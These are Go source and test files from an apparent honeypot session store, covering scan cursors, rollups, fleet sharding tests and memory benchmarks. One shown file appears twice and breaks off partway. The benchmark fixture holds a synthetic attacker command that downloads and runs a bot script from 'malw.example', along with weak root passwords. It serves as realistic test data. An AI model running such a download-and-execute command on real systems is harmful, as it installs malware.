			if c.stats != nil {
				c.stats.TailRecords++
				c.stats.ScannedRecords++
			}
			return r, nil
		}
		c.ti = 0
		c.pi++
	}
	return nil, io.EOF
}

// Record returns the record Next advanced to.
func (c *Cursor) Record() *session.Record { return c.cur }

// Err returns the first error the scan hit, if any.
func (c *Cursor) Err() error { return c.err }

// Close releases the cursor's open segment, if any. Safe to call at
// any point; exhausted cursors are already closed.
func (c *Cursor) Close() error {
	var err error
	if c.br != nil {
		err = c.br.close()
		c.br = nil
	}
	if c.cc != nil {
		if cerr := c.cc.close(); err == nil {
			err = cerr
		}
		c.cc = nil
	}
	if c.note != nil {
		c.note()
		c.note = nil
	}
	return err
}

// Months returns the sorted distinct partition months present.
func (s *Store) Months() []time.Time {
	man, tail := s.snapshot()
	seen := map[time.Time]bool{}
	for _, seg := range man.Segments {
		seen[seg.month()] = true
	}
	for _, r := range tail {
		seen[r.Month()] = true
	}
	out := make([]time.Time, 0, len(seen))
	for m := range seen {
		out = append(out, m)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Before(out[j]) })
	return out
}

// Rollup is the precomputed monthly aggregate behind the longitudinal
// figures: session counts by kind and protocol for one partition.
type Rollup struct {
	Month   time.Time
	Records int
	// Kinds counts records per session.Kind (index = kind value).
	Kinds  [4]int
	SSH    int
	Telnet int
	// Sealed is how many of the records are in sealed segments (the
	// rest are unsealed tail records, tallied by a bounded scan).
	Sealed int
}

// Rollup aggregates one month from sealed segment metadata — no block
// is read — plus a pass over the in-memory unsealed tail.
//
// Deprecated: use RunQuery with GROUP BY month/kind/proto, which
// answers the same aggregates from metadata (and composes with WHERE).
// Rollup remains as a shim over two such queries.
func (s *Store) Rollup(month time.Time) Rollup {
	m := time.Date(month.Year(), month.Month(), 1, 0, 0, 0, 0, time.UTC)
	out := Rollup{Month: m}
	byKind := &Query{Time: Month(m), GroupBy: []Field{FieldKind}, Aggs: []AggSpec{{Op: AggCount}}}
	if res, err := s.RunQuery(byKind); err == nil {
		for _, g := range res.Groups() {
			if k := int(g.Keys[0].Int); k >= 0 && k < len(out.Kinds) {
				out.Kinds[k] += int(g.Aggs[0].Int)
				out.Records += int(g.Aggs[0].Int)
			}
		}
	}
	byProto := &Query{Time: Month(m), GroupBy: []Field{FieldProto}, Aggs: []AggSpec{{Op: AggCount}}}
	if res, err := s.RunQuery(byProto); err == nil {
		for _, g := range res.Groups() {
			switch g.Keys[0].Str {
			case session.ProtoSSH:
				out.SSH = int(g.Aggs[0].Int)
			case session.ProtoTelnet:
				out.Telnet = int(g.Aggs[0].Int)
			}
		}
	}
	// The sealed-vs-tail split is a storage fact, not a record
	// predicate; it comes straight from the manifest.
	man, _ := s.snapshot()
	for _, seg := range man.Segments {
		if seg.month().Equal(m) {
			out.Sealed += seg.Records
		}
	}
	return out
}

// Stats computes dataset statistics by streaming the store month at a
// time — identical to collector.Store.Stats over the same records, but
// with scan memory bounded by the block size (the unique-IP set is the
// only dataset-sized state).
func (s *Store) Stats() (collector.Stats, error) {
	st := collector.Stats{ByKind: map[session.Kind]int{}}
	ips := map[string]bool{}
	cur := s.Scan(TimeRange{}, nil)
	defer cur.Close()
	for cur.Next() {
		r := cur.Record()
		st.Total++
		switch r.Protocol {
		case session.ProtoSSH:
			st.SSH++
		case session.ProtoTelnet:
			st.Telnet++
		}
		k := r.Kind()
		st.ByKind[k]++
		if k == session.CommandExec {
			st.CommandExec++
			if r.StateChanged {
				st.StateChanged++
			}
		}
		ips[r.ClientIP] = true
	}
	if err := cur.Err(); err != nil {
		return st, err
	}
	st.UniqueIPs = len(ips)
	return st, nil
}

// Load materializes every record in exact global append order, reading
// sealed segments in parallel on the shared worker pool. The result is
// byte-for-byte the sequence of Appends that produced the store, so
// the figure pipeline over it matches the in-memory path identically
// for any worker count.
func (s *Store) Load(workers int) ([]*session.Record, error) {
	man, tail := s.snapshot()
	total := int(man.NextSeq) + len(tail)
	out := make([]*session.Record, total)
	errs := make([]error, len(man.Segments))
	parallel.ForEach(len(man.Segments), parallel.Workers(workers), 1, func(w, lo, hi int) {
		for i := lo; i < hi; i++ {
			errs[i] = s.loadSegment(man.Segments[i], out)
		}
	})
	for _, err := range errs {
		if err != nil {
			return nil, err
		}
	}
	for i, r := range tail {
		out[int(man.NextSeq)+i] = r
	}
	for i, r := range out {
		if r == nil {
			return nil, fmt.Errorf("store: missing record at seq %d (corrupt manifest?)", i)
		}
	}
	return out, nil
}

// loadSegment decodes one segment, placing each record at its global
// append sequence in out.
func (s *Store) loadSegment(seg *segmentMeta, out []*session.Record) error {
	br, err := s.openSegment(seg)
	if err != nil {
		return err
	}
	defer br.close()
	var (
		dec   session.JSONDecoder
		arena recArena
	)
	for {
		seq, line, err := br.next()
		if err == io.EOF {
			return nil
		}
		if err != nil {
			return err
		}
		if seq >= uint64(len(out)) {
			return fmt.Errorf("store: %s: seq %d out of range", seg.File, seq)
		}
		r := arena.alloc()
		if err := dec.Decode(line, r); err != nil {
			return fmt.Errorf("store: decoding record: %w", err)
		}
		out[seq] = r
	}
}
