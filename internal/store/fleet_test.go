package store

import (
	"bytes"
	"fmt"
	"testing"
	"time"

	"honeynet/internal/session"
)

// TestScanSeqOrder checks the replication cursor streams every record
// in dense global sequence order across sealed segments (which split
// one WAL by month, interleaving sequence ranges) and the unsealed
// tail, from any starting cursor.
func TestScanSeqOrder(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, Options{BlockBytes: 2048})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()

	recs := fill(t, s, 300, 3)
	if err := s.Seal(); err != nil {
		t.Fatal(err)
	}
	recs = append(recs, fill(t, s, 50, 2)...) // unsealed tail on top
	if got := s.NextSeq(); got != 350 {
		t.Fatalf("NextSeq = %d, want 350", got)
	}

	for _, from := range []uint64{0, 1, 137, 299, 300, 317, 350, 400} {
		cur := s.ScanSeq(from)
		want := from
		for cur.Next() {
			if cur.Seq() != want {
				t.Fatalf("from %d: seq %d, want %d", from, cur.Seq(), want)
			}
			exp := marshal(t, recs[want])
			if !bytes.Equal(cur.Line(), exp) {
				t.Fatalf("from %d: seq %d line mismatch:\n got %s\nwant %s", from, want, cur.Line(), exp)
			}
			want++
		}
		if err := cur.Err(); err != nil {
			t.Fatalf("from %d: %v", from, err)
		}
		cur.Close()
		expEnd := uint64(350)
		if from > expEnd {
			expEnd = from
		}
		if want != expEnd {
			t.Fatalf("from %d: stopped at %d, want %d", from, want, expEnd)
		}
	}
}

// TestScanSeqReadOnly re-opens a store read-only (no canonical tail
// lines cached) and checks ScanSeq still produces canonical bytes.
func TestScanSeqReadOnly(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	recs := fill(t, s, 40, 2)
	if err := s.Flush(); err != nil {
		t.Fatal(err)
	}
	// Abandon without Close (crash_test pattern) so a WAL tail remains,
	// then reopen read-only: no canonical tail lines are cached.
	s.walF.Close()
	ro, err := Open(dir, Options{ReadOnly: true})
	if err != nil {
		t.Fatal(err)
	}
	defer ro.Close()
	cur := ro.ScanSeq(0)
	n := 0
	for cur.Next() {
		if !bytes.Equal(cur.Line(), marshal(t, recs[n])) {
			t.Fatalf("seq %d: line mismatch", n)
		}
		n++
	}
	if err := cur.Err(); err != nil {
		t.Fatal(err)
	}
	cur.Close()
	if n != 40 {
		t.Fatalf("streamed %d records, want 40", n)
	}
}

// TestWatchSignalsAppend checks the tailer wake-up contract: drain,
// re-check NextSeq, never miss progress.
func TestWatchSignalsAppend(t *testing.T) {
	s, err := Open(t.TempDir(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	w := s.Watch()
	select {
	case <-w:
		t.Fatal("watch fired before any append")
	default:
	}
	if err := s.Append(mkRecord(0, 1)); err != nil {
		t.Fatal(err)
	}
	select {
	case <-w:
	case <-time.After(2 * time.Second):
		t.Fatal("watch did not fire after append")
	}
	if got := s.NextSeq(); got != 1 {
		t.Fatalf("NextSeq = %d, want 1", got)
	}
}

func TestValidNodeID(t *testing.T) {
	for _, id := range []string{"edge-1", "a", "A.b_c-9", "n0"} {
		if !ValidNodeID(id) {
			t.Errorf("ValidNodeID(%q) = false, want true", id)
		}
	}
	long := make([]byte, 65)
	for i := range long {
		long[i] = 'a'
	}
	for _, id := range []string{"", ".hidden", "-flag", "a/b", "a b", "é", string(long)} {
		if ValidNodeID(id) {
			t.Errorf("ValidNodeID(%q) = true, want false", id)
		}
	}
}

func TestIsFleetDir(t *testing.T) {
	single := t.TempDir()
	s, err := Open(single, Options{})
	if err != nil {
		t.Fatal(err)
	}
	fill(t, s, 10, 1)
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	if IsFleetDir(single) {
		t.Error("single store misdetected as fleet dir")
	}

	fdir := t.TempDir()
	if err := WriteFleetMarker(fdir); err != nil {
		t.Fatal(err)
	}
	if !IsFleetDir(fdir) {
		t.Error("marker dir not detected as fleet dir")
	}

	// Marker lost (collector killed before writing it): shards alone
	// still identify the directory.
	fdir2 := t.TempDir()
	sh, err := Open(ShardDir(fdir2, "n1"), Options{})
	if err != nil {
		t.Fatal(err)
	}
	fill(t, sh, 5, 1)
	if err := sh.Close(); err != nil {
		t.Fatal(err)
	}
	if !IsFleetDir(fdir2) {
		t.Error("markerless shard dir not detected as fleet dir")
	}
	if IsFleetDir(t.TempDir()) {
		t.Error("empty dir misdetected as fleet dir")
	}
}

// TestFleetScatterGather builds three shards with interleaved session
// times and checks the merged scan order, Load's canonical total order,
// rollups, and stats against a single store holding the same records.
func TestFleetScatterGather(t *testing.T) {
	dir := t.TempDir()
	if err := WriteFleetMarker(dir); err != nil {
		t.Fatal(err)
	}
	nodes := []string{"edge-a", "edge-b", "edge-c"}
	perNode := 120
	for ni, node := range nodes {
		sh, err := Open(ShardDir(dir, node), Options{BlockBytes: 2048})
		if err != nil {
			t.Fatal(err)
		}
		for i := 0; i < perNode; i++ {
			// Offset per node so times interleave across shards; every
			// third record shares an exact Start across nodes to
			// exercise the node-id tiebreak.
			r := mkRecord(i%3, i*len(nodes)+ni)
			if i%3 == 0 {
				r.Start = mkRecord(0, i).Start
				r.End = r.Start.Add(45 * time.Second)
			}
			if err := sh.Append(r); err != nil {
				t.Fatal(err)
			}
		}
		if ni == 0 { // one shard sealed, two with live tails
			if err := sh.Seal(); err != nil {
				t.Fatal(err)
			}
		}
		if err := sh.Close(); err != nil {
			t.Fatal(err)
		}
	}

	fl, err := OpenFleet(dir, Options{ReadOnly: true})
	if err != nil {
		t.Fatal(err)
	}
	defer fl.Close()
	if fl.Len() != len(nodes)*perNode {
		t.Fatalf("fleet Len = %d, want %d", fl.Len(), len(nodes)*perNode)
	}

	// Load: total order by (Start, node, per-shard index).
	recs, err := fl.Load(4)
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != len(nodes)*perNode {
		t.Fatalf("Load returned %d records, want %d", len(recs), len(nodes)*perNode)
	}
	for i := 1; i < len(recs); i++ {
		if recs[i].Start.Before(recs[i-1].Start) {
			t.Fatalf("Load order violated at %d: %v after %v", i, recs[i].Start, recs[i-1].Start)
		}
	}

	// Scan: merged stream ordered by (month, Start, node) at each step.
	cur := fl.Scan(TimeRange{}, nil)
	n := 0
	var prev *sessRef
	for cur.Next() {
		r, node := cur.Record(), cur.Node()
		if prev != nil {
			pm, cm := prev.r.Month(), r.Month()
			if cm.Before(pm) {
				t.Fatalf("scan month went backwards at %d", n)
			}
			if cm.Equal(pm) && r.Start.Before(prev.r.Start) {
				t.Fatalf("scan time went backwards at %d within month", n)
			}
			if cm.Equal(pm) && r.Start.Equal(prev.r.Start) && node < prev.node {
				t.Fatalf("scan node tiebreak violated at %d: %s after %s", n, node, prev.node)
			}
		}
		prev = &sessRef{r: r, node: node}
		n++
	}
	if err := cur.Err(); err != nil {
		t.Fatal(err)
	}
	cur.Close()
	if n != len(nodes)*perNode {
		t.Fatalf("scan yielded %d records, want %d", n, len(nodes)*perNode)
	}

	// Rollups and stats agree with a single store over the same records.
	sdir := t.TempDir()
	ss, err := Open(sdir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range recs {
		if err := ss.Append(r); err != nil {
			t.Fatal(err)
		}
	}
	fs, err := fl.Stats()
	if err != nil {
		t.Fatal(err)
	}
	sst, err := ss.Stats()
	if err != nil {
		t.Fatal(err)
	}
	if fmt.Sprint(fs) != fmt.Sprint(sst) {
		t.Fatalf("fleet stats %v != single-store stats %v", fs, sst)
	}
	for _, m := range fl.Months() {
		fr, sr := fl.Rollup(m), ss.Rollup(m)
		fr.Sealed, sr.Sealed = 0, 0 // sealing state legitimately differs
		if fr != sr {
			t.Fatalf("rollup %v: fleet %+v != single %+v", m, fr, sr)
		}
	}
	if err := ss.Close(); err != nil {
		t.Fatal(err)
	}
}

type sessRef struct {
	r    *session.Record
	node string
}
