package store

import (
	"fmt"
	"runtime"
	"runtime/debug"
	"sort"
	"sync/atomic"
	"testing"
	"time"

	"honeynet/internal/session"
)

// benchRecord builds records sized like real honeypot sessions (a few
// hundred bytes of JSON).
func benchRecord(i int) *session.Record {
	start := time.Date(2021, time.Month(5+(i%12)), 1, 0, 0, 0, 0, time.UTC).
		Add(time.Duration(i) * 13 * time.Second)
	return &session.Record{
		ID:         uint64(i),
		Start:      start,
		End:        start.Add(40 * time.Second),
		HoneypotID: "hp-1",
		ClientIP:   fmt.Sprintf("45.%d.%d.%d", i%200, (i/200)%250, i%250),
		ClientPort: 30000 + i%20000,
		Protocol:   session.ProtoSSH,
		Logins: []session.LoginAttempt{
			{Username: "root", Password: "123456", Success: false},
			{Username: "root", Password: "admin", Success: true},
		},
		Commands: []session.Command{
			{Raw: "uname -a; cat /proc/cpuinfo | grep model | wc -l", Known: true},
			{Raw: fmt.Sprintf("wget http://malw.example/%d/bot.sh && sh bot.sh", i%977), Known: true},
		},
		StateChanged: i%3 == 0,
	}
}

// BenchmarkStoreIngest measures append throughput through the WAL with
// periodic sealing, reporting records/s.
func BenchmarkStoreIngest(b *testing.B) {
	dir := b.TempDir()
	s, err := Open(dir, Options{SealBytes: 8 << 20, SyncEvery: -1})
	if err != nil {
		b.Fatal(err)
	}
	defer s.Close()
	recs := make([]*session.Record, 4096)
	for i := range recs {
		recs[i] = benchRecord(i)
	}
	b.ResetTimer()
	start := time.Now()
	for i := 0; i < b.N; i++ {
		if err := s.Append(recs[i%len(recs)]); err != nil {
			b.Fatal(err)
		}
	}
	b.StopTimer()
	if el := time.Since(start).Seconds(); el > 0 {
		b.ReportMetric(float64(b.N)/el, "recs/s")
	}
}

// BenchmarkStoreScanMonth scans one sealed month via the streaming
// cursor and reports peak heap growth over the scan. The acceptance
// property: the peak is bounded by the block size (one compressed block
// plus its payload resident at a time), not by the dataset size —
// scanning 4x the data must not take 4x the memory.
func BenchmarkStoreScanMonth(b *testing.B) {
	const n = 20000
	dir := b.TempDir()
	s, err := Open(dir, Options{SealBytes: -1, SyncEvery: -1})
	if err != nil {
		b.Fatal(err)
	}
	defer s.Close()
	for i := 0; i < n; i++ {
		if err := s.Append(benchRecord(i)); err != nil {
			b.Fatal(err)
		}
	}
	if err := s.Seal(); err != nil {
		b.Fatal(err)
	}
	month := s.Months()[0]

	// Sample heap growth from a sibling goroutine while scans run. The
	// sample cadence is coarse, but block-bounded scanning stays within
	// a few MB where materializing the month would show tens.
	runtime.GC()
	var base runtime.MemStats
	runtime.ReadMemStats(&base)
	var peak atomic.Uint64
	stop := make(chan struct{})
	sampled := make(chan struct{})
	go func() {
		defer close(sampled)
		var ms runtime.MemStats
		for {
			select {
			case <-stop:
				return
			default:
				runtime.ReadMemStats(&ms)
				if g := ms.HeapAlloc - base.HeapAlloc; ms.HeapAlloc > base.HeapAlloc && g > peak.Load() {
					peak.Store(g)
				}
				time.Sleep(200 * time.Microsecond) // ReadMemStats stops the world
			}
		}
	}()

	b.ResetTimer()
	var total int
	for i := 0; i < b.N; i++ {
		cur := s.Scan(Month(month), nil)
		for cur.Next() {
			total += len(cur.Record().ClientIP)
		}
		if err := cur.Err(); err != nil {
			b.Fatal(err)
		}
		cur.Close()
	}
	b.StopTimer()
	close(stop)
	<-sampled
	if total == 0 {
		b.Fatal("scan yielded nothing")
	}
	b.ReportMetric(float64(peak.Load()), "peak-bytes")
	b.ReportMetric(float64(n*b.N)/b.Elapsed().Seconds(), "recs/s")
}

// BenchmarkStoreSeal measures the seal path in isolation: framing a
// WAL tail into blocks, compressing them across SealWorkers, and
// committing the manifest. One iteration seals a fresh 32k-record tail
// (roughly one 16 MiB auto-seal unit), so the per-seal fsyncs are
// amortized the way production sealing amortizes them.
func BenchmarkStoreSeal(b *testing.B) {
	const n = 32768
	dir := b.TempDir()
	s, err := Open(dir, Options{SealBytes: -1, SyncEvery: -1})
	if err != nil {
		b.Fatal(err)
	}
	defer s.Close()
	recs := make([]*session.Record, n)
	for i := range recs {
		recs[i] = benchRecord(i)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		b.StopTimer()
		for _, r := range recs {
			if err := s.Append(r); err != nil {
				b.Fatal(err)
			}
		}
		b.StartTimer()
		if err := s.Seal(); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(n*b.N)/b.Elapsed().Seconds(), "recs/s")
}

// TestScanMemoryBounded is the non-benchmark form of the acceptance
// criterion: peak heap growth during a streaming scan must be a small
// fraction of the materialized dataset size.
func TestScanMemoryBounded(t *testing.T) {
	if testing.Short() {
		t.Skip("memory-profile test")
	}
	const n = 30000
	dir := t.TempDir()
	s, err := Open(dir, Options{SealBytes: -1, SyncEvery: -1, BlockBytes: 128 << 10})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	for i := 0; i < n; i++ {
		if err := s.Append(benchRecord(i)); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Seal(); err != nil {
		t.Fatal(err)
	}

	// Keep GC pacing tight so short-lived decode garbage cannot mimic a
	// materialization leak: growth reflects live cursor state, not pacing.
	old := debug.SetGCPercent(10)
	defer debug.SetGCPercent(old)
	runtime.GC()
	var before runtime.MemStats
	runtime.ReadMemStats(&before)
	cur := s.Scan(TimeRange{}, nil)
	count := 0
	var peak uint64
	var ms runtime.MemStats
	for cur.Next() {
		count++
		if count%2000 == 0 {
			runtime.ReadMemStats(&ms)
			if ms.HeapAlloc > before.HeapAlloc && ms.HeapAlloc-before.HeapAlloc > peak {
				peak = ms.HeapAlloc - before.HeapAlloc
			}
		}
	}
	if err := cur.Err(); err != nil {
		t.Fatal(err)
	}
	cur.Close()
	if count != n {
		t.Fatalf("scanned %d records, want %d", count, n)
	}
	// ~30k records at ~400B JSON each is >10 MB materialized. A
	// block-bounded scan with 128 KiB blocks plus GC slack should stay
	// far under half of that; 6 MB is a generous ceiling that still
	// fails hard if the cursor starts materializing segments.
	if peak > 6<<20 {
		t.Fatalf("scan peak heap growth %d bytes exceeds block-bounded ceiling", peak)
	}
}

// BenchmarkQueryProjectionColumnar is the PR-9 acceptance benchmark: a
// narrow projection (ip, start) over one sealed month, row format vs
// columnar. The v3 reader touches only the projected columns' stripes
// at the byte level; the row reader must decompress whole blocks. The
// CI tripwire holds the v3/v2 ratio at >=3x.
//
// The two formats are measured PAIRED — every iteration runs one v2 op
// then one v3 op, each on its own clock — so a noisy neighbour or a
// thermal window degrades both sides of the ratio equally. Running them
// as separate sub-benchmarks put every v2 op minutes before every v3
// op, which systematically flattered whichever format ran on the
// cooler CPU.
func BenchmarkQueryProjectionColumnar(b *testing.B) {
	const n = 30000
	open := func(format string) *Store {
		s, err := Open(b.TempDir(), Options{SealBytes: -1, SyncEvery: -1, Format: format})
		if err != nil {
			b.Fatal(err)
		}
		b.Cleanup(func() { s.Close() })
		for i := 0; i < n; i++ {
			if err := s.Append(benchRecord(i)); err != nil {
				b.Fatal(err)
			}
		}
		if err := s.Seal(); err != nil {
			b.Fatal(err)
		}
		return s
	}
	s2, s3 := open("v2"), open(FormatV3)
	month := s2.Months()[0]
	perOp := monthLen(s2, month)
	q := &Query{
		Time:   Month(month),
		Select: []Field{FieldIP, FieldStart},
	}
	scan := func(s *Store) int {
		res, err := s.RunQuery(q)
		if err != nil {
			b.Fatal(err)
		}
		rows := 0
		for res.Next() {
			rows += len(res.Record().ClientIP)
		}
		if err := res.Err(); err != nil {
			b.Fatal(err)
		}
		res.Close()
		return rows
	}
	var t2, t3 time.Duration
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		start := time.Now()
		r2 := scan(s2)
		t2 += time.Since(start)
		start = time.Now()
		r3 := scan(s3)
		t3 += time.Since(start)
		if r2 == 0 || r2 != r3 {
			b.Fatalf("projection mismatch: v2 %d bytes, v3 %d bytes", r2, r3)
		}
	}
	b.StopTimer()
	ops := float64(b.N) * float64(perOp)
	b.ReportMetric(ops/t2.Seconds(), "v2-recs/s")
	b.ReportMetric(ops/t3.Seconds(), "v3-recs/s")
	b.ReportMetric(t2.Seconds()/t3.Seconds(), "speedup")
}

// monthLen counts the records of one partition month (for normalizing
// bench metrics).
func monthLen(s *Store, m time.Time) int {
	cur := s.Scan(Month(m), nil)
	defer cur.Close()
	n := 0
	for cur.Next() {
		n++
	}
	return n
}

// BenchmarkStreamLoad compares the materializing Load against the
// streaming cursor on a 50k-record store, reporting each side's peak
// heap growth. The PR-9 acceptance bar: the stream's peak is <=10% of
// Load's — O(open blocks), not O(store).
func BenchmarkStreamLoad(b *testing.B) {
	const n = 50000
	dir := b.TempDir()
	// Records round-robin all twelve months, so the seq merge keeps
	// every month's segment open at once; modest blocks keep the
	// stream's resident set to what the merge actually needs.
	s, err := Open(dir, Options{SealBytes: -1, SyncEvery: -1, BlockBytes: 64 << 10})
	if err != nil {
		b.Fatal(err)
	}
	defer s.Close()
	for i := 0; i < n; i++ {
		if err := s.Append(benchRecord(i)); err != nil {
			b.Fatal(err)
		}
	}
	if err := s.Seal(); err != nil {
		b.Fatal(err)
	}

	// The peak metric is peak LIVE heap — what the O(store) vs O(open
	// blocks) claim is about. Each run calls sample() at the points
	// where its working set is held (Load: while the materialized slice
	// is still alive, its maximum by construction; stream: every n/8
	// records mid-drain, while the merge's open segments are resident);
	// sample forces a collection first, so floating garbage — a product
	// of the pacer and the allocation rate, not of what the code under
	// test holds — never lands in a sample. Both sides pay the same
	// per-sample GC tax.
	measure := func(b *testing.B, run func(sample func()) int) {
		runtime.GC()
		var base runtime.MemStats
		runtime.ReadMemStats(&base)
		var peak uint64
		sample := func() {
			runtime.GC()
			var ms runtime.MemStats
			runtime.ReadMemStats(&ms)
			if g := ms.HeapAlloc - base.HeapAlloc; ms.HeapAlloc > base.HeapAlloc && g > peak {
				peak = g
			}
		}
		b.ResetTimer()
		total := 0
		for i := 0; i < b.N; i++ {
			total += run(sample)
		}
		b.StopTimer()
		if total != n*b.N {
			b.Fatalf("drained %d records, want %d", total, n*b.N)
		}
		b.ReportMetric(float64(peak), "peak-bytes")
		b.ReportMetric(float64(total)/b.Elapsed().Seconds(), "recs/s")
	}

	b.Run("load", func(b *testing.B) {
		measure(b, func(sample func()) int {
			recs, err := s.Load(0)
			if err != nil {
				b.Fatal(err)
			}
			sample()
			// Without this the compiler proves the records dead before
			// sample's forced GC and the peak under-reads.
			runtime.KeepAlive(recs)
			return len(recs)
		})
	})
	b.Run("stream", func(b *testing.B) {
		measure(b, func(sample func()) int {
			c := s.Stream()
			count := 0
			for c.Next() {
				count++
				if count%(n/8) == 0 {
					sample()
				}
			}
			if err := c.Err(); err != nil {
				b.Fatal(err)
			}
			c.Close()
			return count
		})
	})
}

// BenchmarkOrderByLimitPushdown compares the pushed-down bounded top-k
// heap against the client-side equivalent (drain everything, full
// sort, truncate) for a top-20-by-port query over the whole store.
func BenchmarkOrderByLimitPushdown(b *testing.B) {
	const n, k = 30000, 20
	dir := b.TempDir()
	s, err := Open(dir, Options{SealBytes: -1, SyncEvery: -1, Format: FormatV3})
	if err != nil {
		b.Fatal(err)
	}
	defer s.Close()
	for i := 0; i < n; i++ {
		if err := s.Append(benchRecord(i)); err != nil {
			b.Fatal(err)
		}
	}
	if err := s.Seal(); err != nil {
		b.Fatal(err)
	}

	b.Run("heap", func(b *testing.B) {
		q := &Query{OrderBy: FieldPort, Desc: true, Limit: k}
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			res, err := s.RunQuery(q)
			if err != nil {
				b.Fatal(err)
			}
			rows := 0
			for res.Next() {
				rows++
			}
			if err := res.Err(); err != nil {
				b.Fatal(err)
			}
			res.Close()
			if rows != k {
				b.Fatalf("got %d rows, want %d", rows, k)
			}
		}
		b.ReportMetric(float64(n*b.N)/b.Elapsed().Seconds(), "recs/s")
	})
	b.Run("clientsort", func(b *testing.B) {
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			res, err := s.RunQuery(&Query{})
			if err != nil {
				b.Fatal(err)
			}
			var all []*session.Record
			for res.Next() {
				all = append(all, res.Record())
			}
			if err := res.Err(); err != nil {
				b.Fatal(err)
			}
			res.Close()
			sort.Slice(all, func(i, j int) bool { return all[i].ClientPort > all[j].ClientPort })
			if len(all) < k {
				b.Fatalf("got %d rows", len(all))
			}
		}
		b.ReportMetric(float64(n*b.N)/b.Elapsed().Seconds(), "recs/s")
	})
}
