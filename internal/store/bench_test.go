package store

import (
	"fmt"
	"runtime"
	"runtime/debug"
	"sync/atomic"
	"testing"
	"time"

	"honeynet/internal/session"
)

// benchRecord builds records sized like real honeypot sessions (a few
// hundred bytes of JSON).
func benchRecord(i int) *session.Record {
	start := time.Date(2021, time.Month(5+(i%12)), 1, 0, 0, 0, 0, time.UTC).
		Add(time.Duration(i) * 13 * time.Second)
	return &session.Record{
		ID:         uint64(i),
		Start:      start,
		End:        start.Add(40 * time.Second),
		HoneypotID: "hp-1",
		ClientIP:   fmt.Sprintf("45.%d.%d.%d", i%200, (i/200)%250, i%250),
		ClientPort: 30000 + i%20000,
		Protocol:   session.ProtoSSH,
		Logins: []session.LoginAttempt{
			{Username: "root", Password: "123456", Success: false},
			{Username: "root", Password: "admin", Success: true},
		},
		Commands: []session.Command{
			{Raw: "uname -a; cat /proc/cpuinfo | grep model | wc -l", Known: true},
			{Raw: fmt.Sprintf("wget http://malw.example/%d/bot.sh && sh bot.sh", i%977), Known: true},
		},
		StateChanged: i%3 == 0,
	}
}

// BenchmarkStoreIngest measures append throughput through the WAL with
// periodic sealing, reporting records/s.
func BenchmarkStoreIngest(b *testing.B) {
	dir := b.TempDir()
	s, err := Open(dir, Options{SealBytes: 8 << 20, SyncEvery: -1})
	if err != nil {
		b.Fatal(err)
	}
	defer s.Close()
	recs := make([]*session.Record, 4096)
	for i := range recs {
		recs[i] = benchRecord(i)
	}
	b.ResetTimer()
	start := time.Now()
	for i := 0; i < b.N; i++ {
		if err := s.Append(recs[i%len(recs)]); err != nil {
			b.Fatal(err)
		}
	}
	b.StopTimer()
	if el := time.Since(start).Seconds(); el > 0 {
		b.ReportMetric(float64(b.N)/el, "recs/s")
	}
}

// BenchmarkStoreScanMonth scans one sealed month via the streaming
// cursor and reports peak heap growth over the scan. The acceptance
// property: the peak is bounded by the block size (one compressed block
// plus its payload resident at a time), not by the dataset size —
// scanning 4x the data must not take 4x the memory.
func BenchmarkStoreScanMonth(b *testing.B) {
	const n = 20000
	dir := b.TempDir()
	s, err := Open(dir, Options{SealBytes: -1, SyncEvery: -1})
	if err != nil {
		b.Fatal(err)
	}
	defer s.Close()
	for i := 0; i < n; i++ {
		if err := s.Append(benchRecord(i)); err != nil {
			b.Fatal(err)
		}
	}
	if err := s.Seal(); err != nil {
		b.Fatal(err)
	}
	month := s.Months()[0]

	// Sample heap growth from a sibling goroutine while scans run. The
	// sample cadence is coarse, but block-bounded scanning stays within
	// a few MB where materializing the month would show tens.
	runtime.GC()
	var base runtime.MemStats
	runtime.ReadMemStats(&base)
	var peak atomic.Uint64
	stop := make(chan struct{})
	sampled := make(chan struct{})
	go func() {
		defer close(sampled)
		var ms runtime.MemStats
		for {
			select {
			case <-stop:
				return
			default:
				runtime.ReadMemStats(&ms)
				if g := ms.HeapAlloc - base.HeapAlloc; ms.HeapAlloc > base.HeapAlloc && g > peak.Load() {
					peak.Store(g)
				}
				time.Sleep(200 * time.Microsecond) // ReadMemStats stops the world
			}
		}
	}()

	b.ResetTimer()
	var total int
	for i := 0; i < b.N; i++ {
		cur := s.Scan(Month(month), nil)
		for cur.Next() {
			total += len(cur.Record().ClientIP)
		}
		if err := cur.Err(); err != nil {
			b.Fatal(err)
		}
		cur.Close()
	}
	b.StopTimer()
	close(stop)
	<-sampled
	if total == 0 {
		b.Fatal("scan yielded nothing")
	}
	b.ReportMetric(float64(peak.Load()), "peak-bytes")
	b.ReportMetric(float64(n*b.N)/b.Elapsed().Seconds(), "recs/s")
}

// BenchmarkStoreSeal measures the seal path in isolation: framing a
// WAL tail into blocks, compressing them across SealWorkers, and
// committing the manifest. One iteration seals a fresh 32k-record tail
// (roughly one 16 MiB auto-seal unit), so the per-seal fsyncs are
// amortized the way production sealing amortizes them.
func BenchmarkStoreSeal(b *testing.B) {
	const n = 32768
	dir := b.TempDir()
	s, err := Open(dir, Options{SealBytes: -1, SyncEvery: -1})
	if err != nil {
		b.Fatal(err)
	}
	defer s.Close()
	recs := make([]*session.Record, n)
	for i := range recs {
		recs[i] = benchRecord(i)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		b.StopTimer()
		for _, r := range recs {
			if err := s.Append(r); err != nil {
				b.Fatal(err)
			}
		}
		b.StartTimer()
		if err := s.Seal(); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(n*b.N)/b.Elapsed().Seconds(), "recs/s")
}

// TestScanMemoryBounded is the non-benchmark form of the acceptance
